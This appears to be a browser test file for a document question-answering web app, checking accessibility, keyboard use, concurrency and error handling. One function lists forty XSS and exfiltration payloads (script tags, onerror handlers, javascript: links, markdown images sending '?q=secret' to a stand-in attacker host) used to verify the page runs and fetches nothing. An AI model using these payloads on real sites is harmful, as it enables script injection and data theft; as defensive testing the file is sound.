"""What holds for the page as a whole: accessible everywhere, deaf to hostile text, and the same to every visitor."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import replace
from importlib.resources import files
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, Request, expect

from evals.desk import Desk
from index.indexing.build import build_index
from index.types import Embedder, Passage, Source, Span
from rag.app.page.words import unknown
from rag.app.workspace import Workspace
from rag.asking.filters import EVERY_ARTICLE, Filters
from rag.settings import LanguageModel, Settings
from rag.types import Answer, Citation, Conflict, Live, Ranks, RetrievedPassage, Side, Statement, Turn
from tests.fakes import FakePipeline, FakeWorkspace, HashingEmbedder
from tests.rag.app.page.conftest import Attacker, Served, open_at

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore:unclosed event loop:ResourceWarning"),  # left by Gradio
    pytest.mark.filterwarnings("ignore:unclosed <socket:ResourceWarning"),
]
AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text("utf-8")
VIOLATIONS = """async () => (await axe.run(document, { resultTypes: ["violations"] })).violations
  .filter((v) => v.impact === "serious" || v.impact === "critical")
  .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).slice(0, 3)}`)"""
READ = """() => [...document.querySelectorAll(
    "button, [role=tab], h1, h2, h3, h4, summary, label > span, [data-testid=block-info]")]
  .filter((e) => e.checkVisibility() && !e.closest("[dir=auto], [role=listbox], #documents-files, #sources ul"))
  .map((e) => {
    const copy = e.cloneNode(true);
    for (const part of copy.querySelectorAll("bdi, [dir=auto], .doc-name, .note, .of, .path, .count")) part.remove();
    return copy.textContent.replace(/“[^”]*”/g, "");
  })"""
"""What stands on buttons, tabs, headings and fields, but for what comes of documents and of the person."""
WINDOWS = [(1280, 800), (390, 844)]


def payloads(host: str) -> list[str]:
    """Forty ways to run a script, to fetch something, or to look like the page itself."""
    run = "window.__x=1"
    return [
        f"<script>{run}</script>",
        f"<script src={host}/s.js></script>",
        f"</script><script>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<img src={host}/i.png>",
        f"<IMG SRC={host}/I.PNG ONERROR='{run}'>",
        f"<img srcset='{host}/set.png 1x'>",
        f"<picture><source srcset={host}/pic.png><img></picture>",
        f"![x]({host}/md.png?q=secret)",
        f"![x][r]\n\n[r]: {host}/ref.png",
        f"[![x]({host}/in.png)]({host}/out)",
        f"<svg onload={run}></svg>",
        f"<svg><script>{run}</script></svg>",
        f"<svg><image href={host}/svg.png /></svg>",
        f"<svg><use href={host}/use.svg#a /></svg>",
        f"<math><mtext><img src=x onerror={run}></mtext></math>",
        f"<iframe src={host}/frame></iframe>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<object data={host}/o></object>",
        f"<embed src={host}/e>",
        f"<video src={host}/v autoplay></video>",
        f"<audio src={host}/a autoplay></audio>",
        f"<video poster={host}/poster.png></video>",
        f"<link rel=stylesheet href={host}/l.css>",
        f"<style>@import url({host}/i.css); body {{ background: url({host}/bg) }}</style>",
        f"<div style='background:url({host}/bg2)'>x</div>",
        f"<base href={host}/>",
        f"<meta http-equiv=refresh content='0;url={host}/meta'>",
        f"<form action={host}/form><input autofocus onfocus={run}></form>",
        f"<details open ontoggle={run}>x</details>",
        f"<a href='javascript:{run}'>a</a>",
        f"[a](javascript:{run})",
        f"<body onload={run}>",
        f"<input type=image src={host}/in.png onerror={run}>",
        f'" autofocus onfocus="{run}" x="',
        f"' onmouseover='{run}",
        f"${{{run}}} {{{{constructor.constructor('{run}')()}}}}",
        f"$\\href{{javascript:{run}}}{{x}}$ \\(\\includegraphics{{{host}/tex}}\\)",
        f"```mermaid\ngraph TD; A[\"<img src={host}/mm>\"]\n```",
        f"\x1b]8;;{host}\x07osc\x1b]8;;\x07 \u202e<b>\u2066x\u2069 \u200b\U000e0041 \x00",
    ]  # fmt: skip


class Hostile(FakePipeline):
    """Answers with every payload everywhere: in statements, notes, passages, quotes, names, titles and authors."""

    def __init__(self, host: str, texts: Sequence[str] = ()) -> None:
        super().__init__(host)
        self.payloads = list(texts) or payloads(host)
        for place, text in enumerate(self.payloads):
            self.texts[f"p{place}"] = text
            self.sources[f"p{place}"] = Source(f"p{place}", text, f"{place:064x}", text, text, text, None, (text,))

    def ask(
        self,
        question: str,
        *,
        history: Sequence[Turn] = (),
        live: Live | None = None,
        filters: Filters = EVERY_ARTICLE,
        understand: bool = True,
    ) -> Answer:
        base = super().ask("What was struck?", history=history, live=live, filters=filters, understand=understand)
        passages = tuple(
            RetrievedPassage(label, Passage(f"p{label - 1}:0", f"p{label - 1}", 0, 0, len(text), text),
                             self.sources[f"p{label - 1}"], 1.0, Ranks(dense=label))
            for label, text in enumerate(self.payloads, start=1)
        )  # fmt: skip
        cited = [Citation(p.label, "supported", p.source, None, Span(0, len(p.passage.text)), p.passage.text)
                 for p in passages[::2]]  # fmt: skip
        return replace(
            base,
            question=question,
            standalone_question=" ".join(self.payloads[:5]),
            statements=tuple(
                Statement(p.passage.text, (p.label,), "partly", p.passage.text, ((p.label, p.passage.span),))
                for p in passages
            ),
            citations=tuple(cited),
            quotes=tuple(
                replace(c, verdict="quoted", headings=(c.quote,), answer=c.span, cells=((c.quote, c.quote),))
                for c in cited
            ),
            passages=passages,
            conflicts=(Conflict(self.payloads[0], tuple(Side(p.label, p.passage.text) for p in passages[:4])),),
            model=self.payloads[3],
            notice=self.payloads[4],
            missing=self.payloads[5],
        )


class Seen:
    """Every request of a tab."""

    def __init__(self, page: Page) -> None:
        self.urls: list[str] = []
        page.on("request", self._note)

    def _note(self, request: Request) -> None:
        self.urls.append(request.url)

    def foreign(self, address: str) -> list[str]:
        here = urlsplit(address).netloc
        return [url for url in self.urls if urlsplit(url).scheme not in ("data", "blob", "about")
                and urlsplit(url).netloc != here]  # fmt: skip


def ask(page: Page, question: str, turn: int = 1) -> None:
    box = page.get_by_role("textbox", name="Your question")
    box.fill(question)
    box.press("Enter")
    expect(page.locator(f"#chat #turn-{turn}")).to_be_visible()


@pytest.fixture(scope="module")
def hostile(attacker: Attacker, serve: Served, tmp_path_factory: pytest.TempPathFactory) -> str:
    return serve(FakeWorkspace(tmp_path_factory.mktemp("hostile"), Hostile(attacker.address)))


def test_forty_hostile_texts_run_nothing_and_fetch_nothing(browser: Browser, hostile: str, attacker: Attacker) -> None:
    texts = payloads(attacker.address)
    assert len(set(texts)) == 40
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    seen = Seen(page)
    open_at(page, hostile)
    ask(page, texts[0])
    ask(page, f"{texts[4]} {texts[8]}", turn=2)
    expect(page.locator("#turn-2 .statements > li").nth(39)).to_be_attached()
    expect(page.locator("#evidence-2")).to_be_visible()
    for summary in page.locator("#evidence-2 summary:visible").all():
        summary.click()
    for place in (0, 3, 39):
        page.locator("#turn-2 .open").nth(place // 2).click()
        frame = page.frame_locator("#reader iframe")
        expect(frame.locator("mark").first).to_be_visible()
        page.get_by_role("button", name="Close").click()
    page.locator("#turn-2").get_by_role("button", name="Pin", exact=True).click()
    expect(page.locator("#judged-2")).not_to_be_empty()
    page.get_by_role("tab", name="Notebook").click()
    expect(page.locator("#notebook")).to_contain_text("<script>")
    page.get_by_role("tab", name="Ask").click()
    page.get_by_role("button", name="Search only some documents").click()
    expect(page.locator("#sources")).to_contain_text("<script>")
    page.get_by_role("button", name="Conversations").click()
    expect(page.locator("#conversations")).to_contain_text("<script>")
    page.get_by_role("button", name="Open:").first.click()
    expect(page.locator("#turn-2 .statements > li").first).to_be_visible()
    page.wait_for_timeout(500)
    assert attacker.visits == []
    assert page.evaluate("window.__x") is None
    assert seen.foreign(hostile) == []
    alive = ":is(img, script, iframe, object, embed, video, audio, source, link, form, style, base, meta, svg, math)"
    assert (
        page.locator(
            f"#chat {alive}, .shelf {alive}, #conversations {alive}, #notebook {alive}, #narrow {alive}"
        ).count()
        == 0
    )
    page.close()


@pytest.fixture(scope="module")
def complete(attacker: Attacker, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    import ui
    from tests.rag.app.page.conftest import free_port

    workspace = FakeWorkspace(tmp_path_factory.mktemp("desk"), FakePipeline(attacker.address))
    page = ui.serve(workspace, desk=Desk(workspace), port=free_port(), prevent_thread_lock=True)
    yield str(page.local_url)
    page.close(verbose=False)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("width", "height"), WINDOWS)
def test_nothing_serious_stands_in_anyones_way(
    browser: Browser, complete: str, width: int, height: int, scheme: str
) -> None:
    page = browser.new_page(viewport={"width": width, "height": height}, color_scheme=scheme)  # type: ignore[arg-type]
    seen = Seen(page)
    open_at(page, complete)
    expect(page.locator(".welcome")).to_be_visible()
    found: dict[str, list[str]] = {}
    strange: dict[str, frozenset[str]] = {}

    def examine(what: str) -> None:
        strange.update({text: words for text in page.evaluate(READ) if (words := unknown(text))})
        page.evaluate(AXE)
        found[what] = page.evaluate(VIOLATIONS)
        assert page.evaluate("document.documentElement.scrollWidth") == width, f"{what} scrolls sideways"

    examine("start")
    page.get_by_role("button", name="Search only some documents").click()
    page.get_by_role("checkbox", name="lease.docx").click()
    expect(page.locator(".chip")).to_be_visible()
    examine("sources")
    page.get_by_role("button", name="Search all").click()
    page.get_by_role("button", name="Search only some documents").click()
    ask(page, "What was struck near Masra?")
    ask(page, "Was anyone hurt?", 2)
    ask(page, "Who baked the cake?", 3)
    ask(page, "How long is the notice?", 4)
    ask(page, "What is the fare in zone 2?", 5)
    ask(page, "Where did the power fail?", 6)
    examine("answers")
    page.locator("#turn-1 .open").first.click()
    expect(page.frame_locator("#reader iframe").locator("mark").first).to_be_in_viewport()
    examine("document")
    page.get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="Rename:").first.click()
    expect(page.get_by_label("New title")).to_be_focused()
    examine("conversations")
    page.get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Delete:").first.click()
    expect(page.get_by_role("button", name="Undo")).to_be_focused()
    examine("a conversation deleted")
    page.get_by_role("button", name="Close the list").click()
    for number in (1, 5):
        page.locator(f"#turn-{number}").get_by_role("button", name="Pin", exact=True).click()
        expect(page.locator(f"#judged-{number}")).not_to_be_empty()
    page.get_by_role("tab", name="Notebook").click()
    page.get_by_role("button", name="Remove: pin 2").click()
    expect(page.get_by_role("button", name="Undo")).to_be_focused()
    examine("notebook")
    for tab in ("Documents", "Model", "Evals"):
        page.get_by_role("tab", name=tab).click()
        expect(
            page.get_by_role("heading", level=2, name=tab if tab != "Model" else "", exact=False).first
        ).to_be_visible()
        page.wait_for_timeout(300)
        examine(tab)
    page.close()
    assert {what: ids for what, ids in found.items() if ids} == {}
    assert strange == {}
    assert seen.foreign(complete) == []


def test_many_browsers_ask_at_once_and_each_gets_its_own_answer(browser: Browser, complete: str) -> None:
    pages = [browser.new_context().new_page() for _ in range(6)]
    for page in pages:
        open_at(page, complete)
        expect(page.locator(".welcome")).to_be_visible()
    for place, page in enumerate(pages):
        box = page.get_by_role("textbox", name="Your question")
        box.fill(f"What was struck, asks {place}?")
        box.press("Enter")
    for place, page in enumerate(pages):
        expect(page.locator("#chat .turn .badge")).to_have_count(5)
        expect(page.locator("#chat .question")).to_have_count(1)
        expect(page.locator("#chat .question")).to_contain_text(f"asks {place}?")
        page.context.close()


def test_the_keyboard_alone_asks_opens_and_closes(browser: Browser, complete: str) -> None:
    page = browser.new_page()
    open_at(page, complete)
    expect(page.get_by_role("textbox", name="Your question")).to_be_focused()
    page.keyboard.type("What was struck near Masra?")
    page.keyboard.press("Enter")
    expect(page.locator("#chat #turn-1")).to_be_visible()
    page.locator("#turn-1").get_by_role("link", name="Evidence 2").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#evidence-1-2 mark").first).to_be_in_viewport()
    page.locator("#turn-1 .open").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#reader")).to_be_visible()
    expect(page.get_by_role("button", name="Close")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#reader")).to_be_hidden()
    expect(page.locator("#turn-1 .open").first).to_be_focused()
    page.close()


def test_an_endless_question_is_one_sentence(serve: Served, tmp_path: Path) -> None:
    address = serve(FakeWorkspace(tmp_path, FakePipeline()))
    config = httpx.get(f"{address}config", trust_env=False).json()
    (box,) = [part["id"] for part in config["components"] if part["props"].get("label") == "Your question"]
    submit = next(call for call in config["dependencies"] if [box, "submit"] in call["targets"])
    data = ["x" * 100_000, *[None] * (len(submit["inputs"]) - 1)]
    body = {"data": data, "fn_index": submit["id"], "session_hash": "long"}
    httpx.post(f"{address}gradio_api/queue/join", json=body, trust_env=False).raise_for_status()
    told = ""
    with httpx.stream(
        "GET", f"{address}gradio_api/queue/data", params={"session_hash": "long"}, trust_env=False, timeout=30
    ) as events:
        for line in events.iter_lines():
            told += line
            if "process_completed" in line:
                break
    assert "has 100,000 characters" in told
    assert len(told) < 60_000
    assert "Traceback" not in json.dumps(told)


def test_without_an_index_the_page_opens_and_says_what_to_do(browser: Browser, serve: Served, tmp_path: Path) -> None:
    address = serve(Workspace(Settings(home=tmp_path)))
    page = browser.new_page()
    open_at(page, address)
    expect(page.locator(".state")).to_contain_text("No documents yet")
    ask(page, "Is anything there?")
    expect(page.locator("#turn-1 .trouble")).to_contain_text("Nothing is indexed")
    page.get_by_role("tab", name="Documents").click()
    expect(page.locator("#documents")).to_contain_text("Nothing is indexed here yet.")
    page.close()


class Offline(Workspace):
    """A workspace whose vectors come from hashing."""

    @property
    def embedder(self) -> Embedder:
        return HashingEmbedder()


@pytest.fixture
def ferry(tmp_path: Path) -> Path:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "ferry.txt").write_text("The ferry Tern sank off Corrin on Monday. All 41 passengers were taken ashore.")
    return folder


def indexed(workspace: Workspace, folder: Path) -> None:
    build_index(workspace.for_index("default"), [folder], workspace.embedder)


def test_an_index_deleted_and_made_again_under_the_page(
    browser: Browser, serve: Served, tmp_path: Path, ferry: Path
) -> None:
    workspace = Offline(Settings(home=tmp_path / "home"))
    indexed(workspace, ferry)
    page = browser.new_page()
    open_at(page, serve(workspace))
    ask(page, "How many passengers were taken ashore?")
    expect(page.locator("#turn-1 .quote").first).to_contain_text("All 41 passengers")
    shutil.rmtree(tmp_path / "home" / "collections")
    ask(page, "What sank off Corrin on Monday?", 2)
    expect(page.locator("#turn-2 .trouble")).to_contain_text("rag index")
    page.locator("#turn-1 .open").first.click()
    expect(page.frame_locator("#reader iframe").locator("body")).not_to_contain_text("Traceback")
    page.get_by_role("button", name="Close").click()
    (ferry / "ferry.txt").write_text("The ferry Tern sank off Harlow on Monday. All 43 passengers were taken ashore.")
    indexed(workspace, ferry)
    ask(page, "How many passengers were taken ashore?", 3)
    expect(page.locator("#turn-3 .quote").first).to_contain_text("All 43 passengers")
    page.close()


def test_a_model_that_is_gone_leaves_the_quotes_and_one_sentence(
    browser: Browser, serve: Served, tmp_path: Path, ferry: Path
) -> None:
    nobody = LanguageModel(provider="openai", base_url="http://127.0.0.1:9/v1", model="gone", retries=0, timeout=5)
    workspace = Offline(Settings(home=tmp_path / "home", llm=nobody))
    indexed(workspace, ferry)
    page = browser.new_page()
    open_at(page, serve(workspace))
    expect(page.locator(".state")).to_contain_text("gone at 127.0.0.1")
    ask(page, "How many passengers were taken ashore?")
    expect(page.locator("#turn-1 .quote").first).to_contain_text("All 41 passengers")
    expect(page.locator("#turn-1 .note").last).to_contain_text("These are quotes instead.")
    page.close()
